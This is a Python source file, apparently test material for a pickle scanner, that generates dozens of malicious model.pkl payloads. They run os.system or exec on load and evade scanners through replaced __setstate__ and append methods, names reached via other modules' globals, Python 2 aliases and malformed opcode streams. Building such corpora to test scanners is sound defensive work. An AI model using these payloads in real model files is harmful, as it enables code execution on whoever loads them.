"""Malicious pickles that no table makes: what the machine does besides calling, and names that hide."""

import pickle
import struct
from collections.abc import Iterator
from typing import Any

from scanning.assembler import Built, Call, New, Raw, Shared, StackGlobal, Text, call, name, steps, written
from scanning.recipe import NEIGHBOUR, Recipe, Sentinel

ORDERED = "collections:OrderedDict"
BUILT = {
    "a state that replaces __setstate__": lambda it: Built(
        call(ORDERED), ({"__setstate__": name("os:system")}, it.shell)
    ),
    "a state of slots on a class": lambda it: steps(
        Built(name("argparse:Namespace"), ((None, {"__setstate__": name("os:system")}),)),
        Built(New(name("argparse:Namespace"), (), {}), (it.shell,)),
    ),
    "a state on a module": lambda it: steps(
        Built(name("logging.config:re"), ({"compile": name("builtins:exec")},)), call("re:compile", it.code)
    ),
    "append that was replaced": lambda it: Raw(
        _body(Built(call(ORDERED), ({"append": name("os:system")},))) + _body(it.shell) + b"a"
    ),
    "add that was replaced": lambda it: Raw(
        _body(Built(call(ORDERED), ({"add": name("os:system")},))) + b"(" + _body(it.shell) + b"\x90"
    ),
    "setitems on a namespace of builtins": lambda it: steps(
        Raw(_body(name("re:__dict__")) + b"(" + _body("compile") + _body(name("builtins:exec")) + b"u"),
        call("re:compile", it.code),
    ),
    "a default factory": lambda it: call(
        "operator:getitem", Built(call("collections:defaultdict", call("functools:partial", name("os:system"), it.shell)), ()), 0
    ),
    "a class made on the spot": lambda it: call(
        call("builtins:type", "Net", (name(ORDERED),), {"__init__": name("os:system")}), it.shell
    ),
}  # fmt: skip


def _body(value: Any) -> bytes:
    """The opcodes of a value that names dotted paths only from protocol 4 on."""
    return StackGlobal().value(value)


HIDDEN = {
    "through another module": ("random:_os.system", "shell"),
    "through collections": ("collections:_sys.modules", "modules"),
    "through enum": ("enum:sys.modules", "modules"),
    "through uuid": ("uuid:os.system", "shell"),
    "through pathlib": ("pathlib:os.system", "shell"),
    "through argparse": ("argparse:_os.system", "shell"),
    "through copyreg of the loader": ("pickle:_compat_pickle.__builtins__", "builtins"),
    "through a class's globals": ("collections:namedtuple.__globals__", "builtins-in"),
    "through a method's globals": ("argparse:Namespace.__init__.__globals__", "builtins-in"),
    "through a partial's class": ("functools:partialmethod.__init__.__globals__", "builtins-in"),
    "through fractions": ("fractions:sys.modules", "modules"),
    "through statistics": ("statistics:sys.modules", "modules"),
    "through re": ("re:enum.sys.modules", "modules"),
    "through logging": ("logging:os.system", "shell"),
    "through the loader's module": ("pickle:sys.modules", "modules"),
}


def _hidden(said: str, how: str) -> Any:
    """The call that shows it, of names reached through modules that a list may let pass."""
    if how == "shell":
        return lambda it: call(said, it.shell)
    if how == "modules":
        return lambda it: call(_of_module(said), it.code)
    if how == "builtins":
        return lambda it: call(call(f"{said}.get", "exec"), it.code)
    return lambda it: call(call("operator:getitem", call(f"{said}.get", "__builtins__"), "exec"), it.code)


def _of_module(said: str) -> Call:
    return call("builtins:getattr", call(f"{said}.get", "builtins"), "exec")


OLD = {
    "__builtin__:eval": lambda it: it.expression,
    "commands:getoutput": lambda it: it.shell,
    "commands:getstatusoutput": lambda it: it.shell,
    "__builtin__:__import__": lambda _: NEIGHBOUR,
    "cPickle:loads": lambda it: written(call("os:system", it.shell)),
    "dumbdbm:open": lambda it: it.path,
}
"""Names of Python 2, which protocols below 3 still turn into today's."""


def _by_name(module: bytes, path: bytes, argument: str) -> bytes:
    return b"c" + module + b"\n" + path + b"\n(X" + struct.pack("<I", len(argument)) + argument.encode() + b"tR."


def _onion(it: Sentinel, deep: int) -> bytes:
    made = written(call("os:system", it.shell))
    for _ in range(deep):
        made = written(call("pickle:loads", made))
    return made


def _shared(it: Sentinel) -> bytes:
    function = Shared(name("os:system"))
    return written([function, call(function, it.shell)], StackGlobal)


RAW = {
    "a head that claims protocol 5 and speaks 0": lambda it: b"\x80\x05" + _by_name(b"os", b"system", it.shell),
    "two heads": lambda it: b"\x80\x02\x80\x04" + _by_name(b"os", b"system", it.shell),
    "a head after the call": lambda it: _by_name(b"os", b"system", it.shell)[:-1] + b"\x80\x04.",
    "thousand marks": lambda it: b"(" * 1000 + b"1" * 1000 + b"N0" + _by_name(b"os", b"system", it.shell),
    "a megabyte before": lambda it: b"\x80\x02" + b"K\x010" * 350_000 + _by_name(b"os", b"system", it.shell),
    "a long memo": lambda it: b"\x80\x02Nr\xff\xff\x00\x00" + b"0" + _by_name(b"os", b"system", it.shell),
    "text lines": lambda it: b"(V" + it.shell.encode() + b"\nios\nsystem\n.",
    "a quoted string": lambda it: b"cos\nsystem\n(S'" + it.shell.encode() + b"'\ntR.",
    "a string of bytes": lambda it: b"\x80\x02cos\nsystem\n(U" + bytes([len(it.shell)]) + it.shell.encode() + b"tR.",
    "a long of ten bytes before": lambda it: b"\x80\x02\x8a\x0a" + b"\x01" * 10 + b"0" + _by_name(b"os", b"system", it.shell),
    "a name that is a memo of a memo": lambda it: b"\x80\x04\x8c\x02os\x94\x8c\x06system\x9400h\x00\x94h\x01\x9400h\x02h\x03\x93"
     b"\x8c" + bytes([len(it.shell)]) + it.shell.encode() + b"\x85R.",
    "a frame too short": lambda it: b"\x80\x04\x95\x02\x00\x00\x00\x00\x00\x00\x00N0" + _by_name(b"os", b"system", it.shell),
    "a byte array and a buffer": lambda it: b"\x80\x05\x96\x03\x00\x00\x00\x00\x00\x00\x00abc0" + _by_name(b"os", b"system", it.shell),
    "an empty tuple called": lambda it: written(call(call("functools:partial", name("os:system"), it.shell))),
    "a stream of nothing first": lambda it: b"N." + _by_name(b"os", b"system", it.shell),
    "white space first": lambda it: pickle.dumps("\n" * 50)[:-1] + b"0" + _by_name(b"os", b"system", it.shell),
    "call inside a call": lambda it: written(call("builtins:print", call("os:system", it.shell))),
    "eight pickles in one another": lambda it: _onion(it, 8),
    "pickle in a string of latin-1": lambda it: written(
        call("pickle:loads", call("_codecs:encode", written(call("os:system", it.shell)).decode("latin-1"), "latin-1"))),
    "in the arguments of a harmless class": lambda it: written(call("collections:OrderedDict", [["a", call("os:system", it.shell)]])),
    "in a set": lambda it: b"\x80\x04\x8f(" + _body(call("os:system", it.shell)) + b"\x90.",
    "in a frozenset": lambda it: b"\x80\x04(" + _body(call("os:system", it.shell)) + b"\x91.",
    "in a state": lambda it: written(Built(call(ORDERED), ({"a": call("os:system", it.shell)},))),
    "in a key": lambda it: written({call("os:system", it.shell): 1}),
    "shared": _shared,
    "popped by a mark": lambda it: b"\x80\x02N(" + _by_name(b"os", b"system", it.shell)[:-1] + b"1.",
    "after a thousand harmless objects": lambda it: written(
        [call(ORDERED, [[f"k{n}", n]]) for n in range(1000)] + [call("os:system", it.shell)]),
}  # fmt: skip


def _touch(it: Sentinel) -> Call:
    """A bound method, of names that real models have too."""
    return call("builtins:getattr", call("pathlib:PosixPath", it.path), "touch")


QUIET = {
    "called": lambda it: call(_touch(it)),
    "called by a partial": lambda it: call(call("functools:partial", _touch(it))),
    "called by iter": lambda it: call("builtins:list", call("builtins:iter", _touch(it), None)),
    "called by max": lambda it: call(
        New(
            name("functools:partial"),
            (name("builtins:max"), [call("pathlib:PosixPath", it.path)]),
            {"key": call("builtins:getattr", name("pathlib:Path"), "touch")},
        )
    ),
    "called as a default": lambda it: call(
        call("builtins:getattr", call("collections:defaultdict", _touch(it)), "__missing__"), 1
    ),
    "called as a state": lambda it: Built(call(ORDERED), ({"__setstate__": _touch(it)}, 511)),
    "called to append": lambda it: Raw(_body(Built(call(ORDERED), ({"append": _touch(it)},))) + _body(511) + b"a"),
    "called to add": lambda it: Raw(_body(Built(call(ORDERED), ({"add": _touch(it)},))) + b"(" + _body(511) + b"\x90"),
    "called to extend": lambda it: Raw(
        _body(Built(call(ORDERED), ({"append": 1, "extend": call("functools:partial", _touch(it), 511)},)))
        + b"("
        + _body(1)
        + b"e"
    ),
}
"""No name in these is off the lists: only what is done with them."""


def recipes() -> Iterator[Recipe]:
    for title, made in QUIET.items():
        yield _recipe(f"a method {title}", "only harmless names", lambda it, made=made: written(made(it), StackGlobal))
    for title, made in BUILT.items():
        yield _recipe(title, "state instead of calls", lambda it, made=made: written(made(it), StackGlobal))
    for title, (said, how) in HIDDEN.items():
        for way in (StackGlobal, Text):
            made = _hidden(said, how)
            yield _recipe(
                f"{title}/{way.__name__}", "names through other modules",
                lambda it, made=made, way=way: written(made(it), way),
            )  # fmt: skip
    for said, argument in OLD.items():
        yield _recipe(said, "names of Python 2", lambda it, said=said, argument=argument: written(
            call(said, argument(it)), Text))  # fmt: skip
    for title, raw in RAW.items():
        each = title == "a stream of nothing first"
        yield _recipe(title, "odd streams", raw, "pickle-each" if each else "pickle")
    yield _recipe("an instance whose class makes others", "odd streams", _new_of_instance, "pickle-python")


def _new_of_instance(it: Sentinel) -> bytes:
    """Only the machine written in Python lets NEWOBJ take an instance: its `__new__` is called with the instance first."""
    command = call("operator:methodcaller", "__call__", it.shell)
    holder = call("argparse:Namespace")
    state = {"__call__": name("os:system"), "__new__": command}
    return b"\x80\x04" + _body(Built(holder, (state,))) + b")\x81."


def _recipe(title: str, family: str, make: Any, loader: str = "pickle") -> Recipe:
    return Recipe(id=f"pickle/{title.replace(' ', '-')}", family=family, file="model.pkl", loader=loader, make=make)
